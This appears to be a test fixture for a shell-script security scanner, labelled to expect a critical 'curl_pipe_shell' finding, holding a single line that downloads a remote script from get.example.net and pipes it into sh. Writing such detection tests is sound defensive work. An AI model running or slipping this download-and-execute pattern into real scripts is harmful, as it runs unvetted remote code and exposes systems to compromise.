# expect: shell.curl_pipe_shell critical
#!/bin/sh
fetch -o - https://get.example.net/i.sh | sh
